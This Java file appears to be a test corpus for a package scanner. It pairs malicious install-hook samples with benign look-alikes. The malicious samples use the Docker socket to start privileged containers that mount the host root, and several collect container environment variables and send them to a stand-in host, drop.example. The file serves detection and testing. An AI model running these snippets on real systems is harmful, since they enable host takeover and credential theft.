package cordon.inspect.corpus;

import java.util.List;

/** Containers that are given the machine they run on, and what others were started with. */
final class ContainerSamples {
  private ContainerSamples() {}

  static List<Sample> all() {
    return List.of(
        Sample.postinstall(
            "a privileged container by the socket of the engine",
            """
            const http = require('http');
            const body = JSON.stringify({ Image: 'alpine', Cmd: ['true'], HostConfig: { Privileged: true, Binds: ['/:/host'] } });
            const r = http.request({ socketPath: '/var/run/docker.sock', path: '/containers/create', method: 'POST' }, () => {});
            r.write(body);
            r.end();
            """),
        Sample.required(
            "a container with the root of the machine by a library",
            """
            const Docker = require('dockerode');
            const docker = new Docker();
            docker.createContainer({ Image: 'alpine', HostConfig: { Binds: ['/:/mnt:rw'] } }).then((c) => c.start());
            """),
        Sample.required(
            "a container with the root of the machine among its mounts, minified",
            """
            fetch('http://localhost/containers/create',{method:'POST',body:JSON.stringify({HostConfig:{Privileged:!0,Mounts:[{Type:'bind',Source:'/',Target:'/m'}]}})});
            """),
        Sample.postinstall(
            "settings of a container as a text that curl sends",
            """
            require('child_process').exec(`curl -s --unix-socket /var/run/docker.sock -X POST -d '{"Image":"alpine","HostConfig":{"Binds":["/:/host"]}}' http://localhost/containers/create`);
            """),
        Sample.postinstall(
            "a container by its command, word by word",
            """
            require('child_process').spawnSync('docker', ['run', '-d', '--mount', 'type=bind,source=/,target=/host', 'alpine', 'true']);
            """),
        Sample.command(
            "a privileged container in a line of the manifest",
            "docker run --rm --privileged -v /:/mnt alpine true || true"),
        Sample.imported(
            "a privileged container by a library",
            """
            import docker
            c = docker.from_env()
            c.containers.run("alpine", "true", privileged=True, detach=True)
            """),
        Sample.imported(
            "a container with the root of the machine by a library",
            """
            from docker import DockerClient
            DockerClient(base_url="unix:///var/run/docker.sock").containers.create("alpine", volumes={"/": {"bind": "/host"}})
            """),
        Sample.imported(
            "settings of a container through a bare socket",
            """
            import json, socket
            s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
            s.connect("/var/run/docker.sock")
            body = json.dumps({"Image": "alpine", "HostConfig": {"Privileged": True}})
            s.sendall(("POST /containers/create HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n" + body).encode())
            """),
        Sample.setup(
            "a container by its command",
            """
            import subprocess
            from setuptools import setup
            subprocess.Popen(["podman", "run", "-v", "/:/mnt", "alpine", "chroot", "/mnt", "true"])
            setup(name="sample")
            """),
        Sample.postinstall(
            "what containers were started with, asked for by the socket of the engine",
            """
            const http = require('http'), https = require('https');
            const get = (path) => new Promise((ok) => http.get({ socketPath: '/var/run/docker.sock', path }, (r) => { let b = ''; r.on('data', (c) => (b += c)); r.on('end', () => ok(JSON.parse(b))); }));
            (async () => {
              const out = [];
              for (const c of await get('/containers/json')) out.push((await get('/containers/' + c.Id + '/json')).Config.Env);
              https.request({ host: 'drop.example', method: 'POST' }).end(JSON.stringify(out));
            })();
            """),
        Sample.imported(
            "what containers were started with, by a library",
            """
            import docker, requests
            envs = [c.attrs["Config"]["Env"] for c in docker.from_env().containers.list()]
            requests.post("https://drop.example/e", json=envs)
            """),
        Sample.imported(
            "what containers were started with, as a command prints it",
            """
            import subprocess, urllib.request
            out = subprocess.check_output("docker ps -q | xargs docker inspect --format '{{.Config.Env}}'", shell=True)
            urllib.request.urlopen("https://drop.example/e", data=out)
            """));
  }

  static List<Sample> lookAlikes() {
    return List.of(
        Sample.required(
            "a client of the engine",
            """
            const http = require('http');
            exports.create = (options) => http.request({ socketPath: '/var/run/docker.sock', path: '/containers/create', method: 'POST' }).end(JSON.stringify(options));
            exports.list = () => http.get({ socketPath: '/var/run/docker.sock', path: '/containers/json' });
            exports.PRIVILEGED = { HostConfig: { Privileged: true } };
            """),
        Sample.required(
            "a container that is given everything only where that is asked for",
            """
            const docker = new (require('dockerode'))();
            exports.start = (opts) => docker.createContainer({ Image: 'alpine', HostConfig: { Privileged: !opts.safe } });
            docker.createContainer({ Image: 'alpine', HostConfig: { Privileged: !1 } });
            """),
        Sample.required(
            "containers of tests, which are given a folder each",
            """
            const docker = new (require('dockerode'))();
            docker.createContainer({ Image: 'postgres', HostConfig: { Privileged: false, Binds: ['/srv/data:/data'] } });
            docker.listContainers().then((all) => console.log(all.length));
            """),
        Sample.command(
            "an emulator of other processors",
            "docker run --rm --privileged multiarch/qemu-user-static --reset -p yes"),
        Sample.imported(
            "a build in a container, and a privileged one for whoever asks",
            """
            import subprocess, docker
            subprocess.run(["docker", "run", "--rm", "-v", "/work:/src", "alpine"])
            def sandbox(image):
                return docker.from_env().containers.run(image, privileged=True)
            """),
        Sample.imported(
            "what a container was started with is looked at",
            """
            import docker
            for c in docker.from_env().containers.list():
                print([e for e in c.attrs["Config"]["Env"] if e.startswith("PATH=")])
            """));
  }
}
